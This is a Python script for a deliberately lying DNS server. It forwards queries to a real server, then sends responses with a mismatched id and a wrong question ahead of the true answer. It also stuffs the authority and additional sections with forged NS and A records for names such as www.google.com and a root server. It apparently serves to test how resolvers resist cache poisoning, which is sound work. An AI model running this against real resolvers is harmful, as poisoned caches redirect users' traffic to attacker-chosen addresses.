#!/usr/bin/python3
"""A name server that lies: looks the truth up at another server of the zone, and says more, and other things first.

    liar.py FALSE TRUTH ADDRESS...

Before each answer over UDP come one with another id and one to another question, both false; the answer itself carries
records of names that are none of its business, in the authority and the additional section. All false addresses are FALSE.
"""
import socket
import struct
import sys
import threading

import dns.exception
import dns.flags
import dns.message
import dns.query
import dns.rrset

FALSE_A = sys.argv[1]
VICTIMS = ["www.google.com.", "a.nic.com.", "a.root-servers.net.", "ns1.hoster2.net."]


def lies(query, truth):
    """Wire forms: what is sent, in this order."""
    q = query.question[0]
    false = dns.message.make_response(query)
    false.flags |= dns.flags.AA
    false.answer = [dns.rrset.from_text(q.name, 86400, "IN", "A", FALSE_A)]
    false.id = query.id ^ 0x5a5a
    other = dns.message.make_response(query)
    other.flags |= dns.flags.AA
    other.question = [dns.rrset.from_text("www.google.com.", 0, "IN", "A")]
    other.question[0].clear()
    other.answer = [dns.rrset.from_text("www.google.com.", 86400, "IN", "A", FALSE_A)]
    truth.authority.append(dns.rrset.from_text("com.", 172800, "IN", "NS", "ns1.liar.net."))
    for v in VICTIMS:
        truth.additional.append(dns.rrset.from_text(v, 172800, "IN", "A", FALSE_A))
    out = [false.to_wire(), other.to_wire()]
    try:
        out.append(truth.to_wire(max_size=1232))
    except dns.exception.TooBig:
        truth.answer, truth.authority, truth.additional = [], [], []
        truth.flags |= dns.flags.TC
        out.append(truth.to_wire())
    return out


def ask_truth(query, where, tcp):
    again = dns.message.make_query(query.question[0].name, query.question[0].rdtype, use_edns=0, payload=4096)
    again.flags &= ~dns.flags.RD
    reply = (dns.query.tcp if tcp else dns.query.udp)(again, where, timeout=3)
    truth = dns.message.make_response(query)
    truth.flags |= reply.flags & (dns.flags.AA | dns.flags.TC)
    truth.set_rcode(reply.rcode())
    truth.answer, truth.authority = reply.answer, reply.authority
    return truth


def one_udp(sock, wire, peer, where):
    try:
        query = dns.message.from_wire(wire)
        for out in lies(query, ask_truth(query, where, False)):
            sock.sendto(out, peer)
    except (OSError, dns.exception.DNSException, IndexError) as e:
        print("liar:", e, file=sys.stderr, flush=True)


def serve_udp(sock, where):
    while True:
        wire, peer = sock.recvfrom(4096)
        threading.Thread(target=one_udp, args=(sock, wire, peer, where), daemon=True).start()


def one_tcp(c, where):
    with c:
        try:
            c.settimeout(5)
            while len(head := c.recv(2, socket.MSG_WAITALL)) == 2:
                query = dns.message.from_wire(c.recv(struct.unpack("!H", head)[0], socket.MSG_WAITALL))
                out = ask_truth(query, where, True).to_wire(max_size=65535)
                c.sendall(struct.pack("!H", len(out)) + out)
        except (OSError, dns.exception.DNSException):
            pass


def serve_tcp(sock, where):
    while True:
        threading.Thread(target=one_tcp, args=(sock.accept()[0], where), daemon=True).start()


def main():
    where, workers = sys.argv[2], []
    for address in sys.argv[3:]:
        family = socket.AF_INET6 if ":" in address else socket.AF_INET
        udp, tcp = socket.socket(family, socket.SOCK_DGRAM), socket.socket(family, socket.SOCK_STREAM)
        tcp.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        for s in (udp, tcp):
            s.bind((address, 53))
        tcp.listen(64)
        workers += [threading.Thread(target=serve_udp, args=(udp, where)), threading.Thread(target=serve_tcp, args=(tcp, where))]
    for w in workers:
        w.daemon = True
        w.start()
    print("ready", flush=True)
    for w in workers:
        w.join()


if __name__ == "__main__":
    main()
